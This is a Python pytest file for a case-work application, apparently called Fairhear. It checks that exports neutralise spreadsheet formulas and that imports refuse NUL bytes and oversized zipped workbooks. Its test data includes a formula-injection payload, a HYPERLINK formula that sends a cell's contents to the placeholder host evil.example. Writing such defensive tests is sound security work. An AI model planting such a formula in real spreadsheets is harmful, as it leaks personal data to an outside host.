"""A case file is personal data that travels: what it says must never run in a spreadsheet,
and what comes in must not harm Fairhear (formulas, NUL bytes, zip bombs)."""

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from fairhear.casework.models import Compliment, Contact
from fairhear.interchange import files
from fairhear.interchange.models import CaseFileExport
from fairhear.interchange.services import export_case_file, import_case_file
from fairhear.reports.models import ContextFigure
from tests.db.interchange.helpers import fingerprint, tables

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Open case notes")'
HOSTILE = {
    "contacts": (
        "reference,received,route,summary\n"
        f'C-2023-0001,2023-05-02,statutory,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
        "C-2023-0002,2023-05-03,corporate,'tis the season\n"
    ),
    "compliments": f'received,text\n2023-05-04,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n',
    "context": "year,measure,value\n2023,net_change,-3\n",
}


def _exported_csv() -> dict[str, list[list[str]]]:
    exported = export_case_file(by=None, form=CaseFileExport.Form.FOLDER).tables
    return {
        table.name: files.read_csv(files.csv_bytes(table), f"{table.name}.csv").rows
        for table in exported
    }


def _empty_the_case_data() -> None:
    Contact.objects.all().delete()
    Compliment.objects.all().delete()
    ContextFigure.objects.all().delete()


def test_the_csv_export_writes_formulas_as_text_and_reads_them_back() -> None:
    assert import_case_file(tables(**HOSTILE), file_name="hostile", by=None).imported
    exported = export_case_file(by=None, form=CaseFileExport.Form.FOLDER).tables
    as_csv = {table.name: files.csv_bytes(table) for table in exported}

    rows = _exported_csv()
    assert rows["contacts"][0][-1] == f"'{FORMULA}"
    assert rows["contacts"][1][-1] == "'tis the season"  # not a formula: left as it is
    assert rows["compliments"][0][6] == f"'{FORMULA}"
    assert rows["context"][0][2] == "-3"  # a negative number stays a number
    _empty_the_case_data()
    again = {name: files.read_csv(data, f"{name}.csv") for name, data in as_csv.items()}
    assert import_case_file(again, file_name="export", by=None).imported
    assert Contact.objects.get(reference="C-2023-0001").summary == FORMULA
    assert Contact.objects.get(reference="C-2023-0002").summary == "'tis the season"
    assert Compliment.objects.get().text == FORMULA
    assert ContextFigure.objects.get().value == -3


def test_the_workbook_export_writes_formulas_as_string_cells(tmp_path: Path) -> None:
    assert import_case_file(tables(**HOSTILE), file_name="hostile", by=None).imported
    exported = export_case_file(by=None, form=CaseFileExport.Form.FOLDER).tables
    files.write_workbook(exported, tmp_path / "case-file.xlsx")

    workbook = openpyxl.load_workbook(tmp_path / "case-file.xlsx")
    summary = workbook["contacts"].cell(row=2, column=18)
    text = workbook["compliments"].cell(row=2, column=7)
    assert (summary.value, summary.data_type) == (FORMULA, "s")
    assert (text.value, text.data_type) == (FORMULA, "s")
    _empty_the_case_data()
    result = import_case_file(
        files.read_case_file(tmp_path / "case-file.xlsx"), file_name="x", by=None
    )
    assert result.imported
    assert Contact.objects.get(reference="C-2023-0001").summary == FORMULA
    assert Contact.objects.get(reference="C-2023-0002").summary == "'tis the season"
    assert Compliment.objects.get().text == FORMULA


def test_a_nul_byte_is_refused_at_the_check_with_where_it_is() -> None:
    before = fingerprint()
    contacts = files.read_csv(
        b"reference,received,route,summary\r\nC-2023-0001,2023-05-02,statutory,a\x00b\r\n",
        "contacts.csv",
    )

    result = import_case_file({"contacts": contacts}, file_name="nul", by=None)

    assert not result.imported
    assert [str(error)[:32] for error in result.errors] == ["contacts.csv:2:summary: the cell"]
    assert fingerprint() == before


def _workbook_bytes() -> bytes:
    buffer = io.BytesIO()
    files.write_workbook([files.read_csv(b"reference,received,route\r\n", "contacts.csv")], buffer)
    return buffer.getvalue()


def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    data = _workbook_bytes()
    unpacked = sum(info.file_size for info in zipfile.ZipFile(io.BytesIO(data)).infolist())
    monkeypatch.setattr(files, "MAX_UNPACKED_BYTES", unpacked - 1)

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl must not read it")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    with pytest.raises(files.CaseFileError, match=r"The workbook unpacks to .* more than"):
        files.read_upload(io.BytesIO(data), "case-file.xlsx")


def test_a_workbook_within_the_limit_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    data = _workbook_bytes()
    unpacked = sum(info.file_size for info in zipfile.ZipFile(io.BytesIO(data)).infolist())
    monkeypatch.setattr(files, "MAX_UNPACKED_BYTES", unpacked)

    assert files.read_upload(io.BytesIO(data), "case-file.xlsx")["contacts"].header == [
        "reference",
        "received",
        "route",
    ]
